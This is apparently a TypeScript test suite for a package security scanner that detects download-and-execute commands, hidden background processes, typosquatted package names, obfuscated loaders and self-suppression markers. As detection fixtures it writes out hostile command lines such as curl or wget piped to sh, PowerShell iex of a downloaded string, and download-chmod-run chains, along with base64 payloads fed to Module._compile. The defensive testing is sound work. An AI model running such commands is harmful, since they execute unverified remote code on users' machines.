// The package rules beyond the corpus: command-line reading, lookalike names,
// prepare only in a checkout, advisories from a local fake registry,
// suppression markers that must have no effect, and negatives that need a
// shape the corpus cannot hold.
import assert from "node:assert/strict";
import { mkdtemp, mkdir, readdir, rm, writeFile } from "node:fs/promises";
import http from "node:http";
import type { AddressInfo } from "node:net";
import os from "node:os";
import path from "node:path";
import { after, before, test } from "node:test";
import * as tar from "tar";
import { scan } from "../analyzer/scan.js";
import type { ScanResult } from "../analyzer/types.js";
import { commandLineExecutions } from "../rules/download-and-execute.js";
import { commandLineBackgroundRuns } from "../rules/silent-process.js";
import { lookalikeOf } from "../rules/typosquat.js";
import { editDistance } from "../rules/util/name-distance.js";
import { valueRunsAsCode } from "../rules/util/shell-command.js";
import { unverifiableSource } from "../rules/vulnerable-dependency.js";

let tmp: string;
before(async () => {
  tmp = await mkdtemp(path.join(os.tmpdir(), "mcp-warden-package-rules-"));
});
after(async () => {
  await rm(tmp, { recursive: true, force: true });
});

/** Writes a package folder from a map of relative path → content. */
async function writePackage(name: string, files: Record<string, string>): Promise<string> {
  const dir = path.join(tmp, name);
  for (const [rel, text] of Object.entries(files)) {
    await mkdir(path.dirname(path.join(dir, rel)), { recursive: true });
    await writeFile(path.join(dir, rel), text);
  }
  return dir;
}

const rulesOf = (r: ScanResult, id: string) => r.findings.filter((f) => f.ruleId === id);

// ---------------------------------------------------------------- command lines

test("download-and-execute reads pipes into interpreters, substitutions and download-then-run", () => {
  const how = (line: string) => [...new Set(commandLineExecutions(line).map((e) => e.how))];
  assert.deepEqual(how("curl -fsSL https://get.example/install.sh | sh"), ["pipe-to-interpreter"]);
  assert.deepEqual(how("wget -qO- https://get.example/x | sudo bash -s -- --yes"), ["pipe-to-interpreter"]);
  assert.deepEqual(how("iwr https://get.example/x.ps1 -UseBasicParsing | iex"), ["pipe-to-interpreter"]);
  assert.deepEqual(how('powershell -NoProfile -Command "iex (New-Object Net.WebClient).DownloadString(\'https://get.example/a\')"'), ["run-substituted-download"]);
  assert.deepEqual(how('bash -c "$(curl -fsSL https://get.example/x)"'), ["run-substituted-download"]);
  assert.deepEqual(how("curl -sLo /tmp/.x https://get.example/bin && chmod +x /tmp/.x && /tmp/.x"), ["download-then-run"]);
  assert.deepEqual(how("wget https://get.example/setup.sh && sh setup.sh"), ["download-then-run"]);
  assert.deepEqual(how('sh -c "curl -s https://get.example/a | sh"'), ["pipe-to-interpreter"]);
  // Downloads that are not run, and a pipe inside quotes.
  assert.deepEqual(how("curl -o data.json https://api.example/data && node build.js"), []);
  assert.deepEqual(how('echo "curl https://get.example | sh"'), []);
  assert.deepEqual(how("curl -s https://api.example/status | jq .ok"), []);
});

test("silent-process reads nohup, setsid and a trailing & but not && or 2>&1", () => {
  const how = (line: string) => commandLineBackgroundRuns(line).map((b) => b.how);
  assert.deepEqual(how("nohup ./helper > /dev/null 2>&1 &"), ["nohup"]);
  assert.deepEqual(how("node daemon.js &"), ["trailing-ampersand"]);
  assert.deepEqual(how("setsid ./x"), ["setsid"]);
  assert.deepEqual(how("tsc && node dist/check.js 2>&1"), []);
  assert.deepEqual(how("node a.js &> out.log"), []);
});

test("silent-process reads a PowerShell script by PowerShell's rules: `&` calls, only Start-Process -WindowStyle Hidden starts a hidden program", () => {
  const how = (line: string) => commandLineBackgroundRuns(line).map((b) => b.how);
  // `&` is the call operator: the script waits for what it calls.
  assert.deepEqual(how(`powershell.exe -NoProfile -Command "Get-Process svc* | ForEach-Object { & taskkill /PID $_.Id /F }"`), []);
  // The program's own hidden window: the caller waits for it or owns it.
  assert.deepEqual(how(`powershell -NoProfile -WindowStyle Hidden -Command "Write-Output ok"`), []);
  // Start-Process (or its alias `start`) with a hidden window starts a program of its own.
  assert.deepEqual(how(`pwsh -Command "Start-Process -FilePath node -ArgumentList agent.js -WindowStyle Hidden"`), ["hidden-window"]);
  assert.deepEqual(how(`powershell -c "start helper.exe -WindowStyle:Hidden"`), ["hidden-window"]);
  // A POSIX shell's trailing `&` and cmd's `start /b` are still background runs.
  assert.deepEqual(how(`sh -c "node agent.js &"`), ["trailing-ampersand"]);
  assert.deepEqual(how(`start /b helper.exe`), ["hidden-window"]);
});

// ---------------------------------------------------------------- names

test("typosquat: lookalike scopes, characters, separators and small edits; never the popular name or its own scope", () => {
  const how = (name: string) => lookalikeOf(name)?.how;
  assert.equal(how("@modelcontextprotoco1/server-filesystem"), "lookalike-scope");
  assert.equal(lookalikeOf("@modelcontextprotoco1/server-filesystem")?.popular, "@modelcontextprotocol/server-filesystem");
  assert.equal(how("@modeIcontextprotocol/sdk".toLowerCase()), "lookalike-scope");
  assert.equal(how("modelcontextprotocol-server-filesystem"), "scope-dropped");
  assert.equal(how("flrecrawl-mcp"), "lookalike-characters");
  assert.equal(how("firecrawl_mcp"), "separators");
  assert.equal(how("chrome-devtools-mpc"), "edit-distance");
  assert.equal(how("@modelcontextprotocol/server-filesystem"), undefined);
  assert.equal(how("@modelcontextprotocol/server-filesystm"), undefined, "same scope is the same owner");
  assert.equal(how("@upstash/context7-mcp"), undefined);
  assert.equal(how("weather-forecast-mcp"), undefined);
  // `<product>-mcp` next to `@<product>/mcp`: the descriptive name, not an imitation; a specific package name folded in, or a changed letter, still is.
  assert.equal(how("storybook-mcp"), undefined);
  assert.equal(how("hono_mcp"), undefined);
  assert.equal(how("mastra-mcp"), undefined);
  assert.equal(how("upstash-context7-mcp"), "scope-dropped");
  assert.equal(lookalikeOf("st0rybook-mcp")?.popular, "@storybook/mcp");
  assert.equal(how("@st0rybook/mcp"), "lookalike-scope");
  assert.equal(how("mcp"), undefined);
});

test("typosquat: a publisher's scope with a suffix, a hyphen or one edit, carrying that publisher's package name", () => {
  const how = (name: string) => lookalikeOf(name)?.how;
  assert.equal(lookalikeOf("@modelcontextprotocol-official/server-filesystem")?.popular, "@modelcontextprotocol/server-filesystem");
  assert.equal(how("@upstashhq/context7-mcp"), "lookalike-scope");
  assert.equal(how("@model-context-protocol/sdk"), "lookalike-scope");
  assert.equal(how("@mastrra/mcp"), "lookalike-scope");
  assert.equal(lookalikeOf("@stripe-ai/mcp")?.popular, "@stripe/mcp");
  assert.equal(how("@orbital/mcp"), undefined, "a scope of its own, not an edit of a publisher's");
  assert.equal(how("@modelcontextprotocol-official/weather-tools"), undefined, "the publisher's scope, but a name it does not use");
  assert.equal(how("@acme/context7-mcp"), undefined, "an unrelated scope");
  assert.equal(how("@upstash/context7-mcp"), undefined);
});

test("editDistance counts an adjacent swap as one edit and stops past its limit", () => {
  assert.equal(editDistance("mcp", "mpc"), 1);
  assert.equal(editDistance("kitten", "sitting"), 3);
  assert.equal(editDistance("abcdef", "uvwxyz", 1), 2);
});

test("unverifiable dependency sources: plain HTTP high, unpinned git medium, pinned git low, registry ranges none", () => {
  assert.equal(unverifiableSource("http://203.0.113.5/a-1.0.0.tgz")?.severity, "high");
  assert.equal(unverifiableSource("git://example.org/a.git")?.severity, "high");
  assert.equal(unverifiableSource("https://example.org/a-1.0.0.tgz")?.severity, "medium");
  assert.equal(unverifiableSource("github:owner/repo#main")?.severity, "medium");
  assert.equal(unverifiableSource("owner/repo")?.severity, "medium");
  assert.equal(unverifiableSource("git+https://example.org/a.git#0123456789abcdef0123456789abcdef01234567")?.severity, "low");
  assert.equal(unverifiableSource("^1.2.3"), undefined);
  assert.equal(unverifiableSource("npm:other@^2"), undefined);
  assert.equal(unverifiableSource("workspace:*"), undefined);
});

test("valueRunsAsCode: a value after a fixed program is an operand; after sh -c, node -e, eval or $( it is code", () => {
  for (const prefix of ["open ", "xdg-open ", 'start "" ', 'cmd.exe /c start "" ', "git clone --depth 1 ", "echo done && notify-send "]) assert.equal(valueRunsAsCode(prefix), false, prefix);
  for (const prefix of ["", "sh -c ", 'bash -c "', "node -e ", "eval ", "echo $(", "cd /tmp && ", "cmd /c ", "python3 -c ", "nohup node "]) assert.equal(valueRunsAsCode(prefix), true, prefix);
});

// ---------------------------------------------------------------- prepare

test("install-script: prepare never counts in a published tarball; in a checkout only past a plain build", async () => {
  const files = {
    "package/package.json": JSON.stringify({ name: "mcp-prepare-demo", version: "1.0.0", scripts: { prepare: "node scripts/fetch.js" } }, null, 2),
    "package/scripts/fetch.js": 'const https = require("https");\nhttps.get("https://example.org/x", () => {});\n',
  };
  const root = await writePackage("prepare-tarball-src", files);
  const tgz = path.join(tmp, "mcp-prepare-demo-1.0.0.tgz");
  await tar.c({ gzip: true, file: tgz, cwd: root, portable: true }, ["package"]);
  // npm does not run prepare on a registry or tarball install: it ran before publishing.
  const fromTarball = await scan(tgz, { offline: true });
  assert.deepEqual(rulesOf(fromTarball, "install-script"), []);
  // A git install of the checkout runs it, and no build step needs the network.
  const fromCheckout = await scan(path.join(root, "package"), { offline: true });
  const found = rulesOf(fromCheckout, "install-script");
  assert.equal(found.length, 1);
  assert.equal(found[0].severity, "high");
  assert.equal(found[0].properties?.script, "prepare");
  assert.match(found[0].message, /on prepare, which npm runs when the package is installed from git or a folder: scripts\/fetch\.js can reach the network \(https\.get\)/);
});

test("install-script: npm run, sh files and npx are followed to what they run", async () => {
  const dir = await writePackage("install-followed", {
    "package.json": JSON.stringify({
      name: "mcp-follow-demo",
      version: "1.0.0",
      scripts: { postinstall: "npm run setup", setup: "sh scripts/setup.sh", preinstall: "npx some-remote-tool --init" },
    }),
    "scripts/setup.sh": "#!/bin/sh\nset -e\nnode scripts/write-config.js\n",
    "scripts/write-config.js": 'const fs = require("fs");\nconst os = require("os");\nfs.writeFileSync(os.homedir() + "/.demo-config", "{}");\n',
  });
  const result = await scan(dir, { offline: true });
  const bySCript = Object.fromEntries(rulesOf(result, "install-script").map((f) => [f.properties?.script, f]));
  assert.equal(bySCript.postinstall.severity, "high");
  assert.match(bySCript.postinstall.message, /scripts\/write-config\.js can write outside the package \(fs\.writeFileSync\)/);
  assert.equal(bySCript.preinstall.severity, "high");
  assert.match(bySCript.preinstall.message, /fetches and runs the package some-remote-tool/);
});

// ---------------------------------------------------------------- JS shapes

test("silent-process: a detached browser opener is not hidden work; a detached helper is", async () => {
  const dir = await writePackage("silent-js", {
    "package.json": JSON.stringify({ name: "mcp-silent-demo", version: "1.0.0", type: "module" }),
    "index.js": [
      'import { spawn } from "node:child_process";',
      "export function openBrowser(url) {",
      '  spawn("xdg-open", [url], { detached: true, stdio: "ignore" }).unref();',
      "}",
      "export function startHelper(bin) {",
      '  const child = spawn(bin, ["--serve"], { detached: true });',
      "  child.unref();",
      "}",
      "",
    ].join("\n"),
  });
  const found = rulesOf(await scan(dir, { offline: true }), "silent-process");
  assert.deepEqual(
    found.map((f) => f.location.line),
    [6],
  );
});

test("obfuscated-code: long blank runs inside strings and templates are data, not hidden code", async () => {
  const pad = " ".repeat(200);
  const dir = await writePackage("far-right-in-template", {
    "package.json": JSON.stringify({ name: "mcp-banner-demo", version: "1.0.0", type: "module" }),
    "banner.js": `export const banner = \`+---+${pad}+---+\n| a |${pad}| b |\`;\nexport const row = "x${pad}y";\n`,
  });
  assert.deepEqual(rulesOf(await scan(dir, { offline: true }), "obfuscated-code"), []);
});

test("obfuscated-code: `_compile` is Node's loader only on a Module; other objects' `_compile` is their own method", async () => {
  const dir = await writePackage("compile-receivers", {
    "package.json": JSON.stringify({ name: "mcp-compile-receivers", version: "1.0.0" }),
    "index.js": [
      'const { Module } = require("module");',
      'const P = "Y29uc29sZS5sb2coMSk=";',
      "class Compiler { _compile(t) { return t; } run() { return this._compile(atob(P)); } }",
      "const compiler = new Compiler();",
      "compiler._compile(atob(P));",
      "const options = { _compile: (t) => t };",
      'options._compile(Buffer.from(P, "base64").toString());',
      "const mod = new Module('x');",
      'mod._compile(Buffer.from(P, "base64").toString(), "x.js");',
      "function shadow(module) { return module._compile(atob(P)); }",
      "module.exports = { Compiler, shadow };",
      "",
    ].join("\n"),
  });
  const found = rulesOf(await scan(dir, { offline: true }), "obfuscated-code");
  assert.deepEqual(found.map((f) => f.location.line), [9]);
});

test("obfuscated-code: a name means its own scope's declaration; generated source over argument counts is not decoded", async () => {
  const dir = await writePackage("scoped-names", {
    "package.json": JSON.stringify({ name: "mcp-scoped-names", version: "1.0.0", type: "module" }),
    "index.js": [
      "export function token(t) { const s = Buffer.from(t, 'hex').toString(); return s.length; }",
      "export function arity(n) { let s = ''; for (let i = 0; i < n; i++) s += (i ? ',' : '') + 'a' + i; return new Function('f', 'return function(' + s + ') { return f(' + s + '); }'); }",
      "export function run(t) { const s = Buffer.from(t, 'hex').toString(); return new Function(s)(); }",
      "",
    ].join("\n"),
  });
  const found = rulesOf(await scan(dir, { offline: true }), "obfuscated-code");
  assert.deepEqual(found.map((f) => [f.location.line, f.properties?.decoder]), [[3, 'Buffer.from(…, "hex")']]);
});

// ---------------------------------------------------------------- suppression markers

test("a package cannot silence its own scan: ignore files and disable comments have no effect, and are noted", async () => {
  const dir = await writePackage("self-suppressing", {
    "package.json": JSON.stringify({ name: "mcp-quiet-demo", version: "1.0.0", type: "module" }),
    ".mcp-warden-ignore": "download-and-execute\nobfuscated-code\n*\n",
    ".semgrepignore": "*\n",
    "index.js": [
      'import { exec } from "node:child_process";',
      "// mcp-warden-disable-next-line download-and-execute",
      'exec("curl -s https://updates.example/sync.sh | sh"); // nosemgrep',
      "",
    ].join("\n"),
  });
  const result = await scan(dir, { offline: true });
  assert.equal(rulesOf(result, "download-and-execute").length, 1);
  const notes = result.diagnostics.filter((d) => d.code === "suppression-marker-ignored");
  assert.deepEqual(
    notes.map((d) => `${d.file}:${d.line}`).sort(),
    [".mcp-warden-ignore:1", ".semgrepignore:1", "index.js:2", "index.js:3"],
  );
  assert.ok(notes.every((d) => d.level === "note" && /had no effect/.test(d.message)));
});

// ---------------------------------------------------------------- advisories (local fake registry)

interface FakeRegistry {
  url: string;
  requests: string[];
  close(): Promise<void>;
}

/** `answerDelayMs`: how long the advisory endpoint waits before answering (a slow registry). */
async function startFakeRegistry(answerDelayMs = 0): Promise<FakeRegistry> {
  const requests: string[] = [];
  const packuments: Record<string, string[]> = {
    "yaml-lite": ["1.0.0", "1.1.0", "1.2.0", "2.0.0"],
    "@acme/tiny-http": ["3.0.0", "3.0.1"],
  };
  const advisories: Record<string, object[]> = {
    "yaml-lite": [{ id: 1101, title: "Prototype pollution in merge keys", url: "https://advisories.example/1101", severity: "high", vulnerable_versions: "<1.2.0" }],
    "@acme/tiny-http": [{ id: 2202, title: "Header injection", severity: "moderate", vulnerable_versions: ">=4.0.0 <4.1.0" }],
  };
  const server = http.createServer((req, res) => {
    let body = "";
    req.on("data", (c: Buffer) => (body += c.toString("utf8")));
    req.on("end", () => {
      requests.push(`${req.method} ${req.url}`);
      res.setHeader("content-type", "application/json");
      if (req.method === "POST" && req.url === "/-/npm/v1/security/advisories/bulk") {
        const asked = JSON.parse(body) as Record<string, string[]>;
        const out: Record<string, object[]> = {};
        for (const name of Object.keys(asked)) if (advisories[name]) out[name] = advisories[name];
        setTimeout(() => res.end(JSON.stringify(out)), answerDelayMs);
        return;
      }
      const name = decodeURIComponent((req.url ?? "/").slice(1));
      const versions = packuments[name];
      if (req.method === "GET" && versions) {
        res.end(JSON.stringify({ name, "dist-tags": { latest: versions[versions.length - 1] }, versions: Object.fromEntries(versions.map((v) => [v, { name, version: v }])) }));
        return;
      }
      res.statusCode = 404;
      res.end(JSON.stringify({ error: "not found" }));
    });
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  const { port } = server.address() as AddressInfo;
  return { url: `http://127.0.0.1:${port}/`, requests, close: () => new Promise((resolve) => server.close(() => resolve())) };
}

test("vulnerable-dependency: a range that admits a vulnerable version is reported at the advisory's severity; cached; skipped offline", async () => {
  const registry = await startFakeRegistry();
  try {
    const dir = await writePackage("advisory-demo", {
      "package.json": JSON.stringify(
        {
          name: "mcp-advisory-demo",
          version: "1.0.0",
          dependencies: { "yaml-lite": "^1.0.0", "@acme/tiny-http": "^3.0.0", "not-published": "^1.0.0" },
          devDependencies: { "yaml-lite": "1.0.0" },
        },
        null,
        2,
      ),
      "index.js": "export const answer = 42;\n",
    });
    const cacheDir = path.join(tmp, "advisory-cache");
    const first = await scan(dir, { registry: registry.url, cacheDir, offline: false });
    const found = rulesOf(first, "vulnerable-dependency");
    assert.equal(found.length, 1, JSON.stringify(found, null, 1));
    assert.equal(found[0].severity, "high");
    assert.equal(found[0].location.line, 5);
    assert.match(found[0].message, /"yaml-lite": "\^1\.0\.0" admits 1\.1\.0, 1\.0\.0, affected by "Prototype pollution in merge keys"/);
    assert.equal(found[0].properties?.advisory, "1101");
    const posts = () => registry.requests.filter((r) => r.startsWith("POST")).length;
    assert.equal(posts(), 1);

    // Same question again: answered from the cache directory, no second bulk request.
    const second = await scan(dir, { registry: registry.url, cacheDir, offline: false });
    assert.equal(rulesOf(second, "vulnerable-dependency").length, 1);
    assert.equal(posts(), 1);
    assert.ok((await readdir(path.join(cacheDir, "advisories"))).length === 1);

    // Offline: nothing is asked, and a note says the check was skipped.
    const before = registry.requests.length;
    const offline = await scan(dir, { registry: registry.url, cacheDir: path.join(tmp, "empty-cache"), offline: true });
    assert.equal(registry.requests.length, before);
    assert.deepEqual(rulesOf(offline, "vulnerable-dependency"), []);
    assert.ok(offline.diagnostics.some((d) => d.code === "advisories-skipped-offline" && d.level === "note"));
  } finally {
    await registry.close();
  }
});

test("timings: the advisory lookup is lookupMs, part of totalMs and not of analysisMs", async () => {
  const delay = 300;
  const registry = await startFakeRegistry(delay);
  try {
    const dir = await writePackage("advisory-timing", {
      "package.json": JSON.stringify({ name: "mcp-advisory-timing", version: "1.0.0", dependencies: { "yaml-lite": "^1.0.0" } }),
      "index.js": "export const answer = 42;\n",
    });
    const online = await scan(dir, { registry: registry.url, cacheDir: path.join(tmp, "timing-cache"), offline: false });
    assert.equal(rulesOf(online, "vulnerable-dependency").length, 1);
    const t = online.timings;
    // The server waits `delay` ms before answering: the lookup takes at least that, and the stages add up to the total.
    assert.ok(t.lookupMs !== undefined && t.lookupMs >= delay, JSON.stringify(t));
    assert.ok(t.acquireMs + t.parseMs + t.analysisMs + t.lookupMs <= t.totalMs + 0.5, JSON.stringify(t));

    const offline = await scan(dir, { registry: registry.url, cacheDir: path.join(tmp, "timing-cache-offline"), offline: true });
    assert.equal(typeof offline.timings.lookupMs, "number");
    assert.equal(registry.requests.filter((r) => r.startsWith("POST")).length, 1, "offline asks nothing");
  } finally {
    await registry.close();
  }
});

test("vulnerable-dependency: an unreachable registry is one note worded as offline's, not a crash, a finding or a warning", async () => {
  const registry = await startFakeRegistry();
  await registry.close();
  const dir = await writePackage("advisory-down", {
    "package.json": JSON.stringify({ name: "mcp-advisory-down", version: "1.0.0", dependencies: { "yaml-lite": "^1.0.0" } }),
    "index.js": "export const answer = 42;\n",
  });
  const result = await scan(dir, { registry: registry.url, cacheDir: path.join(tmp, "down-cache"), offline: false });
  assert.deepEqual(rulesOf(result, "vulnerable-dependency"), []);
  const advisoryNotes = result.diagnostics.filter((d) => d.code.startsWith("advisories-"));
  assert.deepEqual(advisoryNotes.map((d) => [d.code, d.level]), [["advisories-unavailable", "note"]]);
  assert.match(advisoryNotes[0].message, /^the registry's advisory lookup failed \(.+\): declared dependencies were not checked against published advisories$/);
  const offline = await scan(dir, { registry: registry.url, cacheDir: path.join(tmp, "down-cache"), offline: true });
  assert.deepEqual(offline.diagnostics.filter((d) => d.code.startsWith("advisories-")).map((d) => [d.level, d.message]), [["note", "offline: declared dependencies were not checked against published advisories"]]);
});

test("vulnerable-dependency: --no-advisories asks the registry nothing and says so in one note", async () => {
  const registry = await startFakeRegistry();
  try {
    const dir = await writePackage("advisory-opt-out", {
      "package.json": JSON.stringify({ name: "mcp-advisory-opt-out", version: "1.0.0", dependencies: { "yaml-lite": "^1.0.0" } }),
      "index.js": "export const answer = 42;\n",
    });
    const result = await scan(dir, { registry: registry.url, cacheDir: path.join(tmp, "opt-out-cache"), offline: false, noAdvisories: true });
    assert.equal(registry.requests.length, 0);
    assert.deepEqual(rulesOf(result, "vulnerable-dependency"), []);
    assert.deepEqual(result.diagnostics.filter((d) => d.code.startsWith("advisories-")).map((d) => [d.code, d.level, d.message]), [["advisories-skipped", "note", "--no-advisories: declared dependencies were not checked against published advisories"]]);
  } finally {
    await registry.close();
  }
});
